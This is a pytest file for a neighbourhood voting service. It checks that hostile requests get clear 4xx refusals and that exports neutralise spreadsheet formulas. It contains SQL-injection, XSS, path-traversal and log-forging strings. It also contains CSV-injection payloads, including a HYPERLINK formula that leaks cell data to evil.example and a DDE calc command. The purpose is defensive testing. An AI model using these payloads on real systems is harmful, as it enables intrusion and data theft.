"""Hostile input, one table: what is sent, and the answer it must get. Every answer is a 4xx
in the documented error shape, never a 5xx, and nothing stored changes.

A voting round of the pocket park (code issued, one ballot cast) is the target; each row
names the request and the status and error code it must get.
"""

from __future__ import annotations

import csv
import io
import json
import logging
import uuid
from typing import Any

import pytest
from openpyxl import load_workbook
from sqlalchemy import func, select, update

from service.db.models import (
    BoxPart,
    Comment,
    Envelope,
    Household,
    Process,
    Proposal,
    Round,
    RoundOption,
    VoterCode,
)
from service.errors import ErrorBody
from service.records.cells import formula_like
from service.text import line, prose
from tests.support.box import cast_count
from tests.support.park import PARK
from tests.support.rounds import cast, ensure_phone_window, make_round, ranked

HUGE = 2**70
DEEP = "[" * 100_000 + "]" * 100_000
INJECTIONS = [
    "'; DROP TABLE ballots; --",
    "<script>alert('红板凳')</script>",
    '"><img src=x onerror=alert(1)>',
    "../../../../etc/passwd",
    "\u0000\u202e反转",
]


def cast_body(**overrides: Any) -> dict[str, Any]:
    body: dict[str, Any] = {
        "code": "ABCDE-FGHJK",
        "key": uuid.uuid4().hex,
        "ballot": {"kind": "ranked", "ranking": [[PARK[0]]]},
    }
    body.update(overrides)
    return body


JSON = {"content-type": "application/json"}
FORM = {"content-type": "application/x-www-form-urlencoded"}
FACILITATOR = {"staff": "facilitator"}
TEN_THOUSAND = {"kind": "ranked", "ranking": [[f"选项{i}"] for i in range(10_000)]}
SCRIPT = {"kind": "ranked", "ranking": [["<script>x</script>"]]}
BALLOTS = "/api/v1/rounds/{round}/ballots"
COMMENTS = "/api/v1/rounds/{commenting}/comments"
PROPOSALS = "/api/v1/processes/{process}/proposals"

# (name, method, path, JSON body or raw bytes, headers, status, error code)
# fmt: off
CASES: list[tuple[str, str, str, Any, dict[str, str], int, str]] = [
    ("oversize body", "POST", BALLOTS, b'{"code":"' + b"A" * 300_000 + b'"}', JSON,
     413, "too-large"),
    ("deep JSON", "POST", BALLOTS, DEEP.encode(), JSON, 400, "invalid-request"),
    ("not JSON at all", "POST", BALLOTS, b"code=ABCDE", FORM, 400, "invalid-request"),
    ("invalid UTF-8", "POST", BALLOTS, b'{"code":"\xff\xfe","key":"' + b"k" * 20 + b'"}', JSON,
     400, "invalid-request"),
    ("10,000-candidate ballot", "POST", BALLOTS, cast_body(ballot=TEN_THOUSAND), {},
     422, "invalid-ballot"),
    ("HTML as a candidate", "POST", BALLOTS, cast_body(ballot=SCRIPT), {}, 422, "invalid-ballot"),
    ("a number as the ballot", "POST", BALLOTS, cast_body(ballot=HUGE), {},
     400, "invalid-request"),
    ("unknown field", "POST", BALLOTS, cast_body(tablet="3号平板"), {}, 400, "invalid-request"),
    ("huge code count", "POST", "/api/v1/rounds/{round}/codes", {"count": HUGE}, FACILITATOR,
     400, "invalid-request"),
    ("negative code count", "POST", "/api/v1/rounds/{round}/codes", {"count": -5}, FACILITATOR,
     400, "invalid-request"),
    ("huge proposal id", "POST", COMMENTS, {"stance": "support", "body": "好", "proposal_id": HUGE},
     FACILITATOR, 422, "not-on-slate"),
    ("negative parent id", "POST", COMMENTS, {"stance": "support", "body": "好", "parent_id": -1},
     FACILITATOR, 422, "parent-not-in-round"),
    ("huge parent id", "POST", COMMENTS, {"stance": "support", "body": "好", "parent_id": HUGE},
     FACILITATOR, 422, "invalid"),
    ("huge cost", "POST", PROPOSALS, {"title": "天价方案", "cost": "1e400"}, FACILITATOR,
     422, "invalid"),
    ("negative cost", "POST", PROPOSALS, {"title": "倒贴方案", "cost": -100}, FACILITATOR,
     422, "invalid"),
    ("huge id in the path", "GET", f"/api/v1/rounds/{HUGE}/result", None, {"staff": "admin"},
     404, "not-found"),
    ("path traversal as a tracker", "GET", "/api/v1/rounds/{round}/receipts/..%2F..%2Fetc", None,
     {}, 404, "not-found"),
    # what people type (service/text.py)
    ("zero-width twin of an option", "POST", PROPOSALS, {"title": "文化墙\u200b"}, FACILITATOR,
     409, "option-name-taken"),
    ("spaced-out twin of an option", "POST", PROPOSALS, {"title": " 文化\u3000墙 "}, FACILITATOR,
     409, "option-name-taken"),
    ("space-only title", "POST", PROPOSALS, {"title": "   "}, FACILITATOR, 422, "empty-text"),
    ("zero-width-only title", "POST", PROPOSALS, {"title": "\u200b"}, FACILITATOR,
     422, "empty-text"),
    ("NUL in a title", "POST", PROPOSALS, {"title": "方案\u0000"}, FACILITATOR,
     422, "unprintable-character"),
    ("NUL in a comment", "POST", COMMENTS, {"stance": "support", "body": "好\u0000"}, FACILITATOR,
     422, "unprintable-character"),
    ("escape sequence in a speaker", "POST", COMMENTS,
     {"stance": "support", "body": "好", "speaker": "\u001b[2J张三"}, FACILITATOR,
     422, "unprintable-character"),
    ("invisible-only comment", "POST", COMMENTS, {"stance": "support", "body": "\u200b\u3000\n"},
     FACILITATOR, 422, "empty-text"),
    ("one household twice in a roll (full-width dash)", "POST", "/api/v1/rounds/{roll}/codes",
     {"households": ["1-101", "2-202", "1－101"]}, FACILITATOR, 422, "roll-clash"),
    # paths (service/paths.py)
    ("NUL in a static path", "GET", "/static/kiosk.js%00.png", None, {}, 404, "not-found"),
    ("forged log line in a static path", "GET", "/static/%00%0aERROR - forged", None, {},
     404, "not-found"),
    ("control character in a tracker", "GET", "/api/v1/rounds/{round}/receipts/%1b%5b2J", None,
     {}, 404, "not-found"),
]
# fmt: on


@pytest.fixture
async def target(db: Any) -> dict[str, int]:
    round_id = await make_round(db)
    process = await db.scalar(select(Proposal.process_id).limit(1))
    commenting = await make_round(db, phase="commenting")
    roll = await make_round(db, phase="commenting", household_roll=True)
    return {"round": round_id, "process": process, "commenting": commenting, "roll": roll}


async def counts(db: Any) -> tuple[int, ...]:
    db.expire_all()
    tables = (Envelope, BoxPart, Comment, Proposal, VoterCode, Household)
    return tuple([await db.scalar(select(func.count()).select_from(t)) for t in tables])


@pytest.mark.parametrize(
    ("name", "method", "path", "body", "headers", "status", "code"),
    CASES,
    ids=[case[0] for case in CASES],
)
async def test_hostile_input_gets_a_clear_refusal(
    client, db, staff, target, name, method, path, body, headers, status, code
) -> None:
    headers = dict(headers)
    role = headers.pop("staff", None)
    if role:
        headers.update(staff[role])
    before = await counts(db)
    url = path.format(**target)
    if isinstance(body, bytes):
        response = await client.request(method, url, content=body, headers=headers)
    else:
        response = await client.request(method, url, json=body, headers=headers)
    assert response.status_code == status, response.text[:300]
    answer = response.json()
    assert set(answer) == set(ErrorBody.__struct_fields__)
    assert answer["code"] == code, answer
    assert await counts(db) == before  # nothing stored changed


@pytest.mark.parametrize("text", INJECTIONS)
async def test_injections_are_stored_as_text(client, db, staff, target, text: str) -> None:
    """SQL and HTML in text fields are kept as text, in the form every typed text is kept
    (:mod:`service.text`): no query is changed, and the JSON API returns them as data
    (pages escape them when showing them). A control character is refused on every
    database alike (PostgreSQL's text could not hold NUL; SQLite's would have)."""
    headers = staff["facilitator"]
    made = await client.post(
        f"/api/v1/processes/{target['process']}/proposals",
        json={"title": text.replace("\u0000", "") or "x", "description": text},
        headers=headers,
    )
    if "\u0000" in text:
        assert made.status_code == 422, made.text  # refused with a reason, not a crash
        refused = made.json()
        assert (refused["code"], refused["field"]) == ("unprintable-character", "description")
        return
    assert made.status_code == 201, made.text
    again = await client.get(f"/api/v1/proposals/{made.json()['id']}", headers=headers)
    assert again.json()["description"] == prose(text)
    assert json.loads(again.text)["title"] == line(text)
    assert await cast_count(db) == 0  # still there


# Text a spreadsheet would run: OWASP's CSV-injection examples and plain sums.
FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"点我领奖")',
    "+1+2",
    "@SUM(1,2)",
    "-2+3",
]
LEGACY = "红字\u001b[31m\u000b\ufffe"
"""Stored before typed text was normalised: an escape sequence, a vertical tab and a
noncharacter (none of which XLSX can hold; PostgreSQL stores them, unlike NUL)."""


async def formula_round(client: Any, staff: dict[str, dict[str, str]], db: Any) -> int:
    """A counted round whose options and comments start like formulas, and whose stored
    texts hold control characters from before they were refused."""
    admin, facilitator = staff["admin"], staff["facilitator"]
    community = await client.post("/api/v1/communities", json={"name": "杜集社区"}, headers=admin)
    process = await client.post(
        f"/api/v1/communities/{community.json()['id']}/processes",
        json={"title": "口袋公园", "question": "先建哪些设施？"},
        headers=facilitator,
    )
    pid = process.json()["id"]
    ids = []
    for title in FORMULAS:
        made = await client.post(
            f"/api/v1/processes/{pid}/proposals", json={"title": title}, headers=facilitator
        )
        assert made.status_code == 201, made.text
        assert made.json()["title"] == title  # stored as typed: it is text
        ids.append(made.json()["id"])
    made = await client.post(
        f"/api/v1/processes/{pid}/rounds",
        json={"title": "第一轮", "method": "irv", "proposal_ids": ids},
        headers=facilitator,
    )
    rid = made.json()["id"]
    phase = f"/api/v1/rounds/{rid}/phase"
    assert (await client.post(phase, json={"to": "commenting"}, headers=facilitator)).is_success
    for body in ("=1+2", "\t=cmd|' /C calc'!A0", "-5"):
        said = await client.post(
            f"/api/v1/rounds/{rid}/comments",
            json={"stance": "neutral", "body": body},
            headers=facilitator,
        )
        assert said.status_code == 201, said.text
    assert (await client.post(phase, json={"to": "voting"}, headers=facilitator)).is_success
    await ensure_phone_window(client, facilitator, rid)  # the API casts from home
    issued = await client.post(f"/api/v1/rounds/{rid}/codes", json={"count": 3}, headers=admin)
    for n, item in enumerate(issued.json()["codes"]):
        ranking = [[FORMULAS[n]], [FORMULAS[3]]]
        ballot = {"kind": "ranked", "ranking": ranking}
        cast = await client.post(
            f"/api/v1/rounds/{rid}/ballots",
            json={"code": item["code"], "key": uuid.uuid4().hex, "ballot": ballot},
        )
        assert cast.status_code == 201, cast.text
    assert (await client.post(phase, json={"to": "closed"}, headers=facilitator)).is_success
    legacy = update(Comment).where(Comment.round_id == rid, Comment.body == "-5")
    await db.execute(legacy.values(body="意见" + LEGACY))
    await db.execute(update(Process).where(Process.id == pid).values(question="问题" + LEGACY))
    if db.bind.dialect.name == "sqlite":  # PostgreSQL's text cannot hold NUL at all
        await db.execute(update(Process).where(Process.id == pid).values(title="口袋公园\u0000"))
    await db.commit()
    return rid


def spreadsheet_cells(content: bytes) -> list[Any]:
    book = load_workbook(io.BytesIO(content))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


async def test_every_export_of_hostile_text_is_safe_for_spreadsheets(client, staff, db) -> None:
    """Option names and comments that start like formulas, and stored control characters:
    every export answers 200; no XLSX cell is a formula and no CSV cell starts like one;
    characters XLSX cannot hold are replaced; counts stay numbers."""
    rid = await formula_round(client, staff, db)
    secretary = staff["secretary"]
    round_record = await client.get(f"/api/v1/rounds/{rid}", headers=secretary)
    pid = round_record.json()["process_id"]
    formats = (await client.get("/api/v1/exports", headers=secretary)).json()
    for fmt in formats:
        name = fmt["name"]
        if fmt["kinds"] and "ranked" not in fmt["kinds"]:
            continue
        answer = await client.get(f"/api/v1/rounds/{rid}/exports/{name}", headers=secretary)
        if name == "blt":  # BLT quotes names and has no escape for a quote: said, not a 500
            assert answer.status_code == 400, answer.text[:300]
            assert "has a quote or line break" in answer.json()["message_en"]
            continue
        assert answer.status_code == 200, (name, answer.text[:300])
        if fmt["process"]:
            whole = await client.get(f"/api/v1/processes/{pid}/exports/{name}", headers=secretary)
            assert whole.status_code == 200, (name, whole.text[:300])
        if name == "xlsx":
            cells = spreadsheet_cells(answer.content)
            assert all(cell.data_type != "f" for cell in cells)
            texts = [cell.value for cell in cells if isinstance(cell.value, str)]
            for formula in FORMULAS:
                assert formula in texts  # shown as typed, as text
            assert "意见红字\ufffd[31m\ufffd\ufffd" in texts
            assert any(isinstance(cell.value, int) and cell.value == 3 for cell in cells)
        if name.endswith("-csv"):
            rows = list(csv.reader(io.StringIO(answer.content.decode("utf-8-sig"))))
            cells = [cell for row in rows for cell in row]
            assert not [c for c in cells if formula_like(c)], cells
            if name == "comments-csv":
                assert "'=1+2" in cells
                assert "'=cmd|' /C calc'!A0" in cells  # the tab went with the typing
            if name == "rounds-csv":
                assert f"'{FORMULAS[0]}" in cells
                assert "3" in cells  # a count is written as a number, unmarked


@pytest.mark.parametrize("typed", ["1－101", "１-１０１", " 1 — 101 ", "1\u2010101", "1−101"])
async def test_a_household_votes_once_however_its_label_is_typed(client, db, staff, typed):
    """``1-101`` voted; the same household typed with another dash, full-width digits or
    spaces gets no second code — and neither does a label stored before labels were
    normalised (``2－202``)."""
    round_id = await make_round(db, household_roll=True)
    url = f"/api/v1/rounds/{round_id}/codes"
    head = staff["facilitator"]
    first = await client.post(url, json={"households": ["1-101"]}, headers=head)
    assert first.status_code == 201, first.text
    [code] = [c["code"] for c in first.json()["codes"]]
    assert (await cast(client, round_id, code, ranked(PARK[0]))).status_code == 201
    again = await client.post(url, json={"households": [typed]}, headers=head)
    assert again.status_code == 201, again.text
    assert (again.json()["codes"], again.json()["skipped"]) == ([], ["1-101"])
    db.add(Household(round_id=round_id, label="2－202", voted=True))
    await db.commit()
    legacy = await client.post(url, json={"households": ["2-202"]}, headers=head)
    assert (legacy.json()["codes"], legacy.json()["skipped"]) == ([], ["2－202"])
    labels = (await db.scalars(select(Household.label).where(Household.round_id == round_id))).all()
    assert sorted(labels) == ["1-101", "2－202"]  # nothing added, nothing rewritten


async def test_a_roll_that_names_a_household_twice_says_which_lines(client, db, staff):
    round_id = await make_round(db, household_roll=True)
    roll = ["1-101", "1-102", "１－１０１", "1-103", "1-102"]
    refused = await client.post(
        f"/api/v1/rounds/{round_id}/codes", json={"households": roll}, headers=staff["admin"]
    )
    assert refused.status_code == 422
    body = refused.json()
    assert (body["code"], body["field"]) == ("roll-clash", "households")
    assert body["detail"]["lines"] == [[1, 3], [2, 5]]
    assert body["message_zh"] == (
        "户籍名单中有重复的户：第 1、3 行（1-101、１－１０１）是同一户；第 2、5 行（1-102、1-102）"
        "是同一户。同一户只能出现一次，请合并后重新提交"
    )
    assert "lines 1, 3 (1-101, １－１０１) are one household" in body["message_en"]
    assert await db.scalar(select(func.count()).select_from(VoterCode)) == 0


async def test_look_alike_options_stop_voting_from_opening(client, db, staff):
    """Two options whose names differ only by an invisible character, case or spaces (stored
    before names were normalised) cannot open for voting until one is renamed."""
    round_id = await make_round(db, phase="scheduled")
    round_row = await db.get(Round, round_id)
    twins = [
        Proposal(process_id=round_row.process_id, title="同名方案"),
        Proposal(process_id=round_row.process_id, title="同名方案\u200b"),
        Proposal(process_id=round_row.process_id, title="Park A"),
        Proposal(process_id=round_row.process_id, title="park\u3000ａ"),
    ]
    db.add_all(twins)
    await db.flush()
    db.add_all(
        [RoundOption(round_id=round_id, proposal_id=p.id, position=i) for i, p in enumerate(twins)]
    )
    round_row.slate = None
    await db.commit()
    head = staff["facilitator"]
    shown = (await client.get(f"/api/v1/rounds/{round_id}", headers=head)).json()
    a, b, c, d = (p.id for p in twins)
    assert shown["issues_before_freeze_zh"] == [
        f"第 {a} 号方案「同名方案」和第 {b} 号方案「同名方案\u200b」的名称看起来相同"
        "（只差大小写、空格或看不见的字符），选民无法区分，请改名",
        f"第 {c} 号方案「Park A」和第 {d} 号方案「park\u3000ａ」的名称看起来相同"
        "（只差大小写、空格或看不见的字符），选民无法区分，请改名",
    ]
    assert shown["issues_before_freeze"][0].startswith(f"options {a} «同名方案» and {b} «")
    opened = await client.post(
        f"/api/v1/rounds/{round_id}/phase", json={"to": "voting"}, headers=head
    )
    assert opened.status_code == 409
    assert opened.json()["code"] == "round-not-ready"
    renamed = await client.patch(
        f"/api/v1/proposals/{b}", json={"title": "同名方案（二）"}, headers=head
    )
    assert renamed.status_code == 200, renamed.text
    again = await client.patch(f"/api/v1/proposals/{d}", json={"title": "PARK a"}, headers=head)
    assert again.status_code == 409  # renaming into a look-alike is refused too
    assert (again.json()["code"], again.json()["field"]) == ("option-name-taken", "title")
    assert again.json()["detail"]["proposal_id"] == c


async def test_a_forged_log_line_stays_on_its_line(client, caplog) -> None:
    """``%0a`` in a path cannot start a line of its own in the log: the path is refused
    before anything logs it, and what the service logs is escaped and indented."""
    with caplog.at_level(logging.DEBUG):
        answer = await client.get("/static/%00%0aERROR - forged")
        assert answer.status_code == 404
        try:
            raise ValueError("bad value\nERROR - forged too")
        except ValueError as exc:
            logging.getLogger("service.errors").error(
                "unexpected error on %s %s", "GET", "/x\nERROR - forged", exc_info=exc
            )
    formatter = logging.Formatter("%(levelname)s - %(name)s - %(message)s")
    lines = "\n".join(formatter.format(r) for r in caplog.records).splitlines()
    assert not [line for line in lines if line.startswith("ERROR - forged")], lines
    assert "ERROR - service.errors - unexpected error on GET /x\\nERROR - forged" in lines
    assert "  ValueError: bad value" in lines
    assert "  ERROR - forged too" in lines
